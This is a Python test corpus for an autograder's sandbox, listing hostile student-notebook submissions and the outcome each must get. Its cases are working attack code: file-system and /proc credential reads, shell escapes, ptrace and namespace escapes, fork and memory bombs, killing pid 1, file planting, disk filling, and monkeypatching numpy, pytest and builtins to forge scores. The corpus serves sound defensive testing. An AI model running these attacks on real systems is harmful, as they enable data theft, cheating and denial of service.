"""The hostile corpus: week-1 submissions that attack the grader, each with its outcome.

Every case is the code cells of a notebook: an honest part (``base``) plus the attack.
The outcome every case must get is the same for all: **exactly the score its honest
part earns alone** (graded in the same batch), nothing from ``source/`` or
``solutions/`` in its feedback, the batch goes on, and the machine is left as it was.
The honest parts:

- ``correct``: a correct perceptron and ``ppn`` (60/60 on tasks 1-2): the attack must
  not cost it a point (hangs, crashes, floods, bombs, attacks on the zygote);
- ``leak``: ``Perceptron`` and ``ppn`` raise whatever the attack put in ``loot``, so
  anything the attack found reaches the feedback the student gets (0/60): used by
  every attack that reads or probes something;
- ``wrong``: a plausible wrong perceptron (few points): the attack tries to make it
  pass (patched numpy, pytest, builtins, forged replies).

``status`` is the expected result status when it is not ``graded``; ``build`` names a
notebook made at test time instead of from cells (100 MB, 100,000 cells, bad bytes).
Tokens ``__PORT__`` (a TCP port the grader listens on) and ``__MARKER__`` (a unique
string written by the file-planting cases) are filled in by the test.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Case:
    name: str
    attack: str  # what it tries, in words
    base: str  # "correct", "leak" or "wrong": the honest part it is graded against
    cells: tuple[str, ...] = ()
    status: str = "graded"
    build: str | None = None


LEAK = '''
class Perceptron:
    """Raises whatever the attack found, so it lands in the feedback."""
    def __init__(self, *args, **kwargs):
        raise RuntimeError("LOOT " + str(globals().get("loot", ""))[:480])

class _Leak:
    def __getattr__(self, name):
        raise RuntimeError("LOOT " + str(globals().get("loot", ""))[:480])

ppn = _Leak()
'''

WRONG = '''
import numpy as np
from sklearn import linear_model

class Perceptron:
    def __init__(self, eta=0.1, n_iter=10):
        self.eta, self.n_iter = eta, n_iter
    def fit(self, X, y):
        self.w_ = np.zeros(1 + X.shape[1])
        self.errors_ = [0] * self.n_iter
        return self
    def net_input(self, X):
        return X @ self.w_[1:] + self.w_[0]
    def predict(self, X):
        return np.where(self.net_input(X) >= 0.0, 1, -1)

ppn = linear_model.Perceptron()
'''

SEARCH = '''
import os
hits = []
for top in ("/", "/work", "/root", "/home", "/srv", "/opt", "/var", "/mnt"):
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        for name in files:
            if name.startswith("test_week") or name.endswith(".ipynb") or name in ("conftest.py", "results.json"):
                path = os.path.join(folder, name)
                try:
                    hits.append(path + ":" + open(path, errors="replace").read(300))
                except OSError as exc:
                    hits.append(path + ":" + type(exc).__name__)
        if len(hits) > 50:
            break
loot = "|".join(hits)
print(loot)
'''

CASES: tuple[Case, ...] = (
    # -- reading what only the grader may read ---------------------------------------------
    Case("search_hidden_tests", "walk the whole file system for test files and notebooks", "leak", (SEARCH,)),
    Case("known_paths", "open the repository's source/, solutions/ and results by guessed paths", "leak", ('''
import glob
paths = [p for pattern in ("/work/*/source/*/tests/*.py", "/work/*/solutions/**/*.ipynb", "/work/*/source/*/*.ipynb",
                           "/work/*/results/**", "/work/*/tests/fixtures/*/*.ipynb", "../../**/test_*.py")
         for p in glob.glob(pattern, recursive=True)]
loot = "|".join(open(p, errors="replace").read(200) for p in paths if not p.endswith("/"))
''',)),
    Case("proc_of_grader", "read /proc of other processes: the grader's command line, environment, memory", "leak", ('''
import os
found = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for what in ("cmdline", "environ", "cwd", "root/etc/shadow", "mem"):
            try:
                path = f"/proc/{pid}/{what}"
                found.append(f"{pid}/{what}=" + (os.readlink(path) if what == "cwd" else open(path, "rb").read(200).decode("latin-1")))
            except OSError as exc:
                found.append(f"{pid}/{what}:{type(exc).__name__}")
loot = ";".join(found)
''',)),
    Case("environment", "read the environment for tokens, paths and the grader's home", "leak", ('''
import os
loot = repr(dict(os.environ)) + repr(os.path.expanduser("~"))
try:
    loot += repr(os.listdir("/root"))
except OSError as exc:
    loot += type(exc).__name__
''',)),
    Case("loopback_network", "connect to a port the grader listens on at 127.0.0.1", "leak", ('''
import socket
try:
    with socket.create_connection(("127.0.0.1", __PORT__), timeout=1) as s:
        s.sendall(b"forged result")
        loot = "connected"
except OSError as exc:
    loot = "no loopback: " + type(exc).__name__
''',)),
    Case("outside_network", "resolve a name and reach a public address, raw and UDP sockets", "leak", ('''
import socket
loot = []
for attempt in (lambda: socket.getaddrinfo("pypi.org", 443), lambda: socket.create_connection(("1.1.1.1", 53), timeout=1),
                lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53)),
                lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW), lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)):
    try:
        attempt()
        loot.append("reached")
    except OSError as exc:
        loot.append(type(exc).__name__)
''',)),
    Case("shell_escapes", "`!` and `%%bash` to cat the hidden tests", "leak", (
        "!cat /work/*/source/week01/tests/*.py\nloot = 'shell ran'",
        "%%bash\ncat /work/*/source/week01/tests/*.py\nfind / -name 'test_week01*'",
        "%sx cat /work/*/source/week01/tests/test_week01_perceptron.py",
        "import subprocess\ntry:\n    loot = subprocess.run('cat /work/*/source/week01/tests/*.py', shell=True, "
        "capture_output=True, text=True).stdout\nexcept OSError as exc:\n    loot = type(exc).__name__",
    )),
    Case("grader_in_memory", "import the grader's modules and look for hidden tests in them", "leak", ('''
import sys, gc
loot = [m for m in sys.modules if "week01" in m or "conftest" in m or m.startswith(("_pytest", "pytest"))]
loot += [repr(o)[:80] for o in gc.get_objects() if type(o).__name__ in ("Item", "Function", "Session")][:20]
''',)),
    Case("ptrace_zygote", "ptrace, /proc/1/mem and process_vm_readv on the zygote it was forked from", "leak", ('''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
loot = []
for pid in (os.getppid(), 1):
    loot.append(("attach", libc.ptrace(16, pid, 0, 0), ctypes.get_errno()))
    try:
        with open(f"/proc/{pid}/mem", "rb") as mem:
            loot.append(("mem", mem.read(16)))
    except OSError as exc:
        loot.append(("mem", type(exc).__name__))
''',)),
    Case("escape_namespaces", "unshare a user namespace, mount, chroot, load a BPF program", "leak", ('''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
loot = [("unshare", libc.unshare(0x10000000), ctypes.get_errno()),
        ("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), ctypes.get_errno()),
        ("chroot", libc.chroot(b"/tmp"), ctypes.get_errno()),
        ("bpf", libc.syscall(321, 0, 0, 0), ctypes.get_errno())]
if any(code == 0 for _, code, _ in loot):
    loot.append("ESCAPED")
''',)),
    Case("exfiltrate_hidden_inputs", "echo the hidden tests' inputs back through exception messages", "leak", ('''
class Perceptron:
    def __init__(self, eta=0.1, n_iter=10):
        pass
    def fit(self, X, y):
        raise ValueError("HIDDEN-INPUT " + repr(X.tolist())[:400])
''',)),
    # -- taking the grader down ---------------------------------------------------------------
    Case("fork_bomb", "fork until the process limit, every child forking too", "correct", ('''
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
''',)),
    Case("memory_bomb", "touch memory in chunks until something gives", "correct", ('''
import numpy as np
blocks = []
while True:
    blocks.append(np.ones(32 * 2**20 // 8))
''',)),
    Case("memory_bomb_children", "spread a memory bomb over forked children, each under the address-space limit", "correct", ('''
import os, time
import numpy as np
children = []
for _ in range(8):
    pid = os.fork()
    if pid == 0:
        blocks = []
        try:
            while True:  # until RLIMIT_AS says no, or the cgroup's OOM killer ends it
                blocks.append(np.ones(32 * 2**20 // 8))
        except MemoryError:
            time.sleep(60)
        os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
''',)),
    Case("infinite_loop_cell", "a cell that never ends", "correct", ("while True:\n    pass",)),
    Case("infinite_loop_call", "a fit that never returns, so every hidden test's call hangs", "leak", ('''
class Perceptron:
    def __init__(self, eta=0.1, n_iter=10):
        pass
    def fit(self, X, y):
        while True:
            pass
''',)),
    Case("sleep_forever", "time.sleep in a cell, signals ignored", "correct", ('''
import signal, time
for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGALRM):
    signal.signal(sig, signal.SIG_IGN)
time.sleep(10**6)
''',)),
    Case("os_exit", "os._exit in a cell", "correct", ("import os\nos._exit(0)",)),
    Case("sys_exit", "sys.exit, SystemExit and KeyboardInterrupt in a cell", "correct", (
        "import sys\nsys.exit(0)", "raise SystemExit(3)", "raise KeyboardInterrupt", "exit()",
    )),
    Case("exit_in_a_call", "os._exit inside fit, so hidden tests' calls kill the worker", "leak", ('''
import os
class Perceptron:
    def __init__(self, eta=0.1, n_iter=10):
        os._exit(1)
''',)),
    Case("kill_parent", "SIGKILL/SIGTERM/SIGINT to the zygote (its parent and pid 1)", "correct", ('''
import os, signal
for pid in {os.getppid(), 1}:
    for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(pid, sig)
        except OSError:
            pass
''',)),
    Case("kill_everything", "kill(-1) and its own process group", "correct", (
        "import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass",
        "import os, signal\nos.killpg(0, signal.SIGKILL)",
    )),
    Case("limit_the_zygote", "prlimit and renice the zygote so the next fork fails", "correct", ('''
import os, resource
for pid in {os.getppid(), 1}:
    for attempt in (lambda: resource.prlimit(pid, resource.RLIMIT_NPROC, (0, 0)),
                    lambda: resource.prlimit(pid, resource.RLIMIT_AS, (1 << 20, 1 << 20)),
                    lambda: os.setpriority(os.PRIO_PROCESS, pid, 19)):
        try:
            attempt()
        except OSError:
            pass
''',)),
    Case("daemon_escape", "double-fork a setsid daemon that outlives the submission and plants files", "correct", ('''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):
            time.sleep(0.1)
            for path in ("/tmp/__MARKER__-daemon", "/dev/shm/__MARKER__-daemon"):
                try:
                    open(path, "w").write("still here")
                except OSError:
                    pass
    os._exit(0)
''',)),
    Case("protocol_garbage", "write garbage and forged frames into every inherited descriptor", "correct", ('''
import os, struct, json
forged = json.dumps({"ok": True, "error": None, "seq": 1}).encode()
for fd in range(3, 64):
    for payload in (struct.pack(">I", len(forged)) + forged, b"\\xff\\xff\\xff\\xff garbage", b"\\x00\\x00"):
        try:
            os.write(fd, payload)
        except OSError:
            pass
''',)),
    Case("close_the_pipes", "close every descriptor, then keep running", "correct", (
        "import os\nos.closerange(0, 1024)\nx = 1",
    )),
    Case("stdout_flood", "hundreds of MB on stdout", "correct", (
        "import sys\nfor _ in range(300):\n    sys.stdout.write('x' * 1_000_000)",
    )),
    Case("stderr_flood", "hundreds of MB on stderr, and a 10 MB exception message", "correct", (
        "import sys\nfor _ in range(300):\n    sys.stderr.write('e' * 1_000_000)",
        "raise ValueError('v' * 10_000_000)",
    )),
    Case("recursion_crash", "blow the C stack with unbounded recursion", "correct", (
        "import sys\nsys.setrecursionlimit(10**7)\ndef down(n):\n    return down(n + 1) + 1\ndown(0)",
    )),
    # -- forging a score -------------------------------------------------------------------------
    Case("huge_values", "return 2.5 million ints, a 50 MB string and a 64 MB array (each over the reply's item or string cap)", "wrong", ('''
import numpy as np
class Perceptron(Perceptron):
    def fit(self, X, y):
        super().fit(X, y)
        self.errors_ = list(range(2_500_000))
        self.w_ = np.zeros(8_000_000)
        return self
    def predict(self, X):
        return "x" * 50_000_000
''',)),
    Case("deep_values", "errors_ nested 100,000 lists deep, and a list that contains itself", "wrong", ('''
class Perceptron(Perceptron):
    def fit(self, X, y):
        super().fit(X, y)
        deep = []
        for _ in range(100_000):
            deep = [deep]
        self.errors_ = deep
        loop = [1]
        loop.append(loop)
        self.w_ = loop
        return self
''',)),
    Case("object_arrays", "object, structured and void arrays as answers", "wrong", ('''
import numpy as np
class Perceptron(Perceptron):
    def fit(self, X, y):
        super().fit(X, y)
        self.w_ = np.array([0.1, "x", None], dtype=object)
        self.errors_ = np.zeros(self.n_iter, dtype=[("a", "i4"), ("b", "f8")])
        return self
    def predict(self, X):
        return np.zeros(len(X), dtype="V8")
''',)),
    Case("lying_objects", "answers whose __eq__, __array__, __len__, __float__ and __class__ lie", "wrong", ('''
import numpy as np
class Liar(list):
    __class__ = list
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, *args, **kwargs): return np.asarray(kwargs.get("like", [2, 2, 3, 2, 1, 0, 0, 0, 0, 0]))
    def __len__(self): return 10
    def __float__(self): return 0.0
    def __bool__(self): return True
class Perceptron(Perceptron):
    def fit(self, X, y):
        super().fit(X, y)
        self.errors_ = Liar([2, 2, 3, 2, 1])
        self.w_ = Liar()
        return self
    def predict(self, X):
        return Liar()
''',)),
    Case("patch_numpy", "rebind np.allclose, np.array_equal, np.testing and ndarray comparisons", "wrong", ('''
import numpy as np
np.allclose = np.array_equal = np.array_equiv = lambda *a, **k: True
np.isclose = lambda *a, **k: np.True_
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
np.linalg.norm = lambda *a, **k: 1.0
np.sign = lambda x, *a, **k: x
''',)),
    Case("patch_pytest_and_sklearn", "patch pytest, the autograder package and scikit-learn inside the worker", "wrong", ('''
import sys
try:
    import pytest, _pytest.outcomes
    pytest.approx = lambda *a, **k: True
    _pytest.outcomes.fail = lambda *a, **k: None
except Exception:
    pass
import sklearn.linear_model
sklearn.linear_model.Perceptron.score = lambda self, X, y: 1.0
import autograder.worker.core as core
core.WorkerCore.handle = lambda self, request: {"ok": True, "value": True}
''',)),
    Case("patch_builtins", "rebind isinstance, len, int, list and AssertionError in builtins", "wrong", ('''
import builtins
builtins.isinstance = lambda *a: True
builtins.len = lambda x: 10
builtins.AssertionError = type("AssertionError", (Exception,), {})
''',)),
    Case("forged_replies", "write a forged 'passed' reply into the response pipe before answering", "wrong", ('''
import os, struct, json
class Perceptron(Perceptron):
    def fit(self, X, y):
        super().fit(X, y)
        for seq in range(1, 200):
            frame = json.dumps({"ok": True, "value": [2, 2, 3, 2, 1, 0, 0, 0, 0, 0], "seq": seq}).encode()
            for fd in range(3, 16):
                try:
                    os.write(fd, struct.pack(">I", len(frame)) + frame)
                except OSError:
                    pass
        return self
''',)),
    # -- the file system ---------------------------------------------------------------------------
    Case("fake_results", "write result files into the repository, results/, the venv, cwd and /tmp", "correct", ('''
import os, glob, json, site, sys
fake = json.dumps({"score": 100, "tests": [], "status": "graded", "marker": "__MARKER__"})
targets = ["results.json", "/tmp/results.json", "/results/__MARKER__.json", os.path.expanduser("~/__MARKER__.json")]
targets += [os.path.join(d, "__MARKER__.json") for d in glob.glob("/work/*/results") + glob.glob("/work/*/results/*")]
targets += [os.path.join(d, "__MARKER__.pth") for d in site.getsitepackages() + [sys.prefix, "/usr/lib/python3/dist-packages"]]
targets += ["/work/main/__MARKER__.json", "/etc/__MARKER__", "/var/tmp/__MARKER__", "/root/__MARKER__"]
for path in targets:
    try:
        with open(path, "w") as f:
            f.write(fake)
    except OSError:
        pass
''',)),
    Case("write_outside_scratch", "overwrite the autograder package, the hidden tests and /usr; plant files for the next submission", "correct", ('''
import os, glob
import autograder
for path in [os.path.join(os.path.dirname(autograder.__file__), "grading", "judge.py"), "/usr/bin/__MARKER__"]
            + glob.glob("/work/*/source/week01/tests/*.py"):
    try:
        with open(path, "a") as f:
            f.write("# __MARKER__")
    except OSError:
        pass
for path in ("/tmp/__MARKER__-planted", "/dev/shm/__MARKER__-planted", "/tmp/.mpl/__MARKER__-planted"):
    with open(path, "w") as f:
        f.write("__MARKER__-planted")
os.chmod("/tmp/.mpl", 0)
os.makedirs("/tmp/__MARKER__-locked/inner", exist_ok=True)
os.chmod("/tmp/__MARKER__-locked", 0)
''',)),
    Case("harvest_planted_files", "read what an earlier submission planted in /tmp and /dev/shm", "leak", ('''
import os
loot = []
for folder in ("/tmp", "/dev/shm", "/tmp/.mpl", "."):
    try:
        for name in os.listdir(folder):
            path = os.path.join(folder, name)
            loot.append(name + "=" + (open(path, errors="replace").read(40) if os.path.isfile(path) else "dir"))
    except OSError as exc:
        loot.append(folder + ":" + type(exc).__name__)
''',)),
    Case("fill_the_disk", "write /tmp and /dev/shm full, many files and one huge one", "correct", ('''
import os
chunk = b"d" * (8 << 20)
for folder in ("/tmp", "/dev/shm", "."):
    for i in range(200):
        try:
            with open(os.path.join(folder, f"fill{i}"), "wb") as f:
                for _ in range(16):
                    f.write(chunk)
        except OSError:
            break
''',)),
    # -- the notebook file itself -------------------------------------------------------------------
    Case("notebook_100mb", "a 100 MB notebook", "leak", status="error", build="huge_notebook"),
    Case("notebook_100k_cells", "a notebook with 100,000 cells", "leak", status="error", build="many_cells"),
    Case("invalid_utf8", "a notebook with bytes that are not UTF-8", "leak", status="error", build="invalid_utf8"),
    Case("deeply_nested_json", "a notebook whose JSON nests 100,000 levels deep", "leak", status="error", build="nested_json"),
)


BUILDERS: dict = {}  # name -> function making a ``build=`` notebook, from corpus_*.py files


def _more_cases() -> tuple[Case, ...]:
    """Cases kept in ``corpus_*.py`` beside this file, one file per kind of threat: each
    defines ``CASES`` as a list of dicts of ``Case``'s fields (it cannot import this module,
    which is loaded by path), and may define ``BUILDERS`` for its ``build=`` notebooks."""
    import importlib.util
    from pathlib import Path

    found: list[Case] = []
    for path in sorted(Path(__file__).parent.glob("corpus_*.py")):
        spec = importlib.util.spec_from_file_location(f"hostile_{path.stem}", path)
        assert spec is not None and spec.loader is not None
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        BUILDERS.update(getattr(module, "BUILDERS", {}))
        found.extend(Case(**{**fields, "cells": tuple(fields.get("cells", ()))}) for fields in module.CASES)
    return tuple(found)


CASES = CASES + _more_cases()
